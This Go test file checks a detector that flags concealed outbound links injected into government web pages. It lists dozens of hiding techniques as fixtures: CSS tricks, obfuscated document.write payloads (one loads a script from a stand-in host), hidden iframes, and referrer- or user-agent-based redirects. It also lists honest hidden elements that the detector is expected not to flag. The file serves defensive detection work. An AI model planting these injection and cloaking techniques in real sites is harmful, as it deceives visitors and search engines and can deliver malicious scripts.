package check

import (
	"strings"
	"testing"
)

// A link that leads out of government is found whichever way it is hidden, be its
// words and its host of no ill fame; what honest pages hide is not.
func TestWaysOfHiding(t *testing.T) {
	const bad = "http://www.zzq168.example"
	link := func(s string) string { return strings.ReplaceAll(s, "LINK", `<a href="`+bad+`">点击进入</a>`) }
	hidden := map[string]string{
		"zindex":             `<div style="position:absolute;z-index:-1">LINK</div>`,
		"zindex2":            `<div style="position:relative;z-index:-9999">LINK</div>`,
		"scale0":             `<div style="transform:scale(0)">LINK</div>`,
		"scale00":            `<div style="transform:scale(0,0)">LINK</div>`,
		"scale001":           `<div style="-webkit-transform:scale(.001)">LINK</div>`,
		"scalex":             `<div style="transform:scaleX(0)">LINK</div>`,
		"scale3d":            `<div style="transform:scale3d(0,0,0)">LINK</div>`,
		"hidden attr":        `<div hidden>LINK</div>`,
		"hidden attr a":      `<a hidden href="` + bad + `">点击进入</a>`,
		"clip":               `<div style="position:absolute;clip:rect(0,0,0,0)">LINK</div>`,
		"clip px":            `<div style="position:absolute;clip:rect(1px 1px 1px 1px)">LINK</div>`,
		"clippath":           `<div style="clip-path:inset(100%)">LINK</div>`,
		"clippath circle":    `<div style="clip-path:circle(0)">LINK</div>`,
		"height0":            `<div style="height:0;overflow:hidden">LINK</div>`,
		"maxheight":          `<div style="max-height:0;overflow:hidden">LINK</div>`,
		"height1":            `<div style="height:1px;width:1px;overflow:hidden">LINK</div>`,
		"top":                `<div style="position:absolute;top:-999px">LINK</div>`,
		"margin":             `<div style="margin-left:-10000px">LINK</div>`,
		"margintop":          `<div style="margin-top:-5000px;position:absolute">LINK</div>`,
		"right":              `<div style="position:fixed;right:-3000px">LINK</div>`,
		"vw":                 `<div style="position:absolute;left:-200vw">LINK</div>`,
		"pct":                `<div style="position:absolute;left:-200%">LINK</div>`,
		"em":                 `<div style="position:absolute;left:-999em">LINK</div>`,
		"translate":          `<div style="transform:translateX(-9999px)">LINK</div>`,
		"translate2":         `<div style="transform:translate(-9999px,0)">LINK</div>`,
		"transparent":        `<a style="color:transparent" href="` + bad + `">点击进入</a>`,
		"rgba":               `<a style="color:rgba(0,0,0,0)" href="` + bad + `">点击进入</a>`,
		"font1":              `<a style="font-size:1px" href="` + bad + `">点击进入</a>`,
		"font0 shorthand":    `<a style="font:0/0 a" href="` + bad + `">点击进入</a>`,
		"opacity":            `<div style="opacity:.01">LINK</div>`,
		"filteropacity":      `<div style="filter:opacity(0)">LINK</div>`,
		"collapse":           `<div style="visibility:collapse">LINK</div>`,
		"important":          `<div style="display:none !important">LINK</div>`,
		"upper":              `<DIV STYLE="DISPLAY:NONE">LINK</DIV>`,
		"css escape":         `<div style="d\69splay:none">LINK</div>`,
		"css comment":        `<div style="disp/**/lay:none;display:/*x*/none">LINK</div>`,
		"id style":           `<style>#q{display:none}</style><div id="q">LINK</div>`,
		"descendant":         `<style>.w .q{left:-9999px;position:absolute}</style><div class="w"><p class="q">LINK</p></div>`,
		"child":              `<style>.w>p{text-indent:-9999px}</style><div class="w"><p>LINK</p></div>`,
		"media":              `<style>@media screen{.q{display:none}}</style><div class="q">LINK</div>`,
		"ul class":           `<style>ul.q li{font-size:0}</style><ul class="q"><li>LINK</li></ul>`,
		"js class":           `<div class="zq">LINK</div><script>document.querySelector(".zq").style.display="none"</script>`,
		"js cssText":         `<div id="zq">LINK</div><script>document.getElementById('zq').style.cssText='position:absolute;left:-9999px'</script>`,
		"js setAttribute":    `<div id="zq">LINK</div><script>document.getElementById('zq').setAttribute("style","display:none")</script>`,
		"jquery hide":        `<div id="zq">LINK</div><script>$("#zq").hide()</script>`,
		"jquery css":         `<div id="zq">LINK</div><script>$("#zq").css("display","none")</script>`,
		"js hidden prop":     `<div id="zq">LINK</div><script>document.getElementById("zq").hidden=true</script>`,
		"js classname":       `<style>.gone{display:none}</style><div id="zq">LINK</div><script>document.getElementById("zq").className="gone"</script>`,
		"writeln":            `<script>document.writeln("<div style='display:none'>")</script>LINK<script>document.writeln("</div>")</script>`,
		"write link":         `<script>document.write('<a href="` + bad + `" style="display:none">点击进入</a>')</script>`,
		"innerHTML":          `<div id="k"></div><script>document.getElementById("k").innerHTML='<a style="display:none" href="` + bad + `">x</a>'</script>`,
		"fromCharCode":       `<script>document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,104,116,116,112,58,47,47,119,119,119,46,122,122,113,49,54,56,46,101,120,97,109,112,108,101,34,62,120,60,47,97,62))</script>`,
		"unescape":           `<script>document.write(unescape("%3Cscript%20src%3D%22http%3A//www.zzq168.example/a.js%22%3E%3C/script%3E"))</script>`,
		"hex":                `<script>document.write("\x3c\x61\x20\x68\x72\x65\x66\x3d\x22\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x7a\x7a\x71\x31\x36\x38\x2e\x65\x78\x61\x6d\x70\x6c\x65\x22\x3e\x78\x3c\x2f\x61\x3e")</script>`,
		"reverse":            `<script>document.write('>a/<x>"elpmaxe.861qzz.www//:ptth"=ferh a<'.split('').reverse().join(''))</script>`,
		"iframe1":            `<iframe src="` + bad + `" width="1" height="1"></iframe>`,
		"iframe style":       `<iframe src="` + bad + `" style="display:none"></iframe>`,
		"iframe pos":         `<iframe src="` + bad + `" style="position:absolute;top:-1000px"></iframe>`,
		"object":             `<object data="` + bad + `" width="0" height="0"></object>`,
		"embed":              `<embed src="` + bad + `" width="0" height="0">`,
		"meta refresh":       `<meta http-equiv="refresh" content="0;url=` + bad + `">`,
		"marquee style":      `<marquee style="height:1px;overflow:hidden" scrollamount="9999">LINK</marquee>`,
		"img 0":              `<a href="` + bad + `"><img src="/s.gif" width=0 height=0></a>`,
		"img style":          `<a href="` + bad + `"><img src="/s.gif" style="width:1px;height:1px"></a>`,
		"empty a":            `<a href="` + bad + `"></a>`,
		"space a":            `<a href="` + bad + `">&nbsp;</a>`,
		"zero width":         `<a href="` + bad + `">&#8203;</a>`,
		"same colour class":  `<style>.bg{background:#FFF}.bg a{color:white}</style><div class="bg">LINK</div>`,
		"same colour font":   `<table bgcolor="#ffffff"><tr><td><font color="#FFFFFF">LINK</font></td></tr></table>`,
		"near colour":        `<div style="background:#ffffff"><a href="` + bad + `" style="color:#fefefe">点击进入</a></div>`,
		"details":            `<dialog>LINK</dialog>`,
		"ref json":           `<script>if(document.referrer.indexOf("baidu")>-1){top.location="` + bad + `"}</script>`,
		"ref split":          `<script>var s=document.referrer;if(s.match(/baidu|sogou/)){window.location.href="http://www.zz"+"q168.example"}</script>`,
		"ua":                 `<script>if(navigator.userAgent.toLowerCase().indexOf("android")>0){location="` + bad + `"}</script>`,
		"content visibility": `<div style="content-visibility:hidden">LINK</div>`,
		"line0":              `<p style="line-height:0;font-size:0">LINK</p>`,
		"width0":             `<div style="width:0;overflow:hidden;white-space:nowrap">LINK</div>`,
		"bottom":             `<div style="position:absolute;bottom:-2000px">LINK</div>`,
		"inset":              `<div style="position:fixed;inset:-9999px auto auto -9999px">LINK</div>`,
	}
	honest := map[string]string{
		"skip":       `<a href="#main" style="position:absolute;left:-9999px">跳到主要内容</a>`,
		"menu":       `<style>.sub{display:none}.m:hover .sub{display:block}</style><div class="m">友情链接<ul class="sub"><li><a href="http://www.people.com.cn">人民网</a></li><li><a href="http://www.xinhuanet.com">新华网</a></li></ul></div>`,
		"select":     `<div class="tab" style="display:none"><a href="http://www.sxdaily.com.cn/">陕西日报</a></div>`,
		"statistics": `<div style="display:none"><script src="https://s4.cnzz.com/z_stat.php?id=1"></script></div>`,
		"statimg":    `<img src="https://hm.baidu.com/x.gif" width="1" height="1">`,
		"weixin":     `<div id="wx" style="display:none"><img src="/wx.jpg" alt="微信"><a href="https://weixin.qq.com/">微信</a></div>`,
		"share":      `<div class="bdsharebuttonbox" style="display:none"><a href="https://service.weibo.com/share/share.php">分享到微博</a></div>`,
		"jsgov":      `<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href="http://m.xian.gov.cn/"}</script>`,
		"ie":         `<div style="display:none" id="ie">您的浏览器版本过低，请<a href="https://www.google.cn/chrome/">升级</a></div>`,
		"swiper":     `<div style="position:absolute;left:-1366px"><a href="http://www.news.cn/">新华社</a></div>`,
		"zindexok":   `<div style="position:relative;z-index:1"><a href="http://www.news.cn/">新华社</a></div>`,
		"map":        `<div style="height:0;overflow:hidden"><a href="https://api.map.baidu.com/">地图</a></div>`,
		"print":      `<div class="print" style="display:none"><a href="javascript:window.print()">打印</a></div>`,
		"emptygov":   `<a href="http://www.gov.cn/"></a>`,
	}
	say := func(name, body string, want bool) {
		p, err := ParsePage([]byte(`<!DOCTYPE html><html lang="zh"><head><meta charset="utf-8"><title>某市人民政府关于开展检查的通知</title></head><body><h1>关于开展检查的通知</h1><p>各区县人民政府：</p><p>`+strings.Repeat("为做好相关工作，现将有关事项通知如下，请认真贯彻执行。", 20)+`</p>`+link(body)+`<div class="footer">主办单位：某市人民政府</div></body></html>`), "text/html; charset=utf-8", "http://www.xx.gov.cn/a/1.html")
		if err != nil {
			t.Fatal(err)
		}
		got := false
		says := ""
		for _, f := range Run(Facts{Page: p, Class: ClassContent}) {
			if strings.HasPrefix(f.Check, "concealed.") && f.Outcome == Violated {
				got = true
				says += f.Check + " " + f.Says + "; "
			}
		}
		if got != want {
			t.Errorf("%s: found %v: %s", name, got, says)
		}
	}
	for n, b := range hidden {
		say(n, b, true)
	}
	for n, b := range honest {
		say("honest "+n, b, false)
	}
}
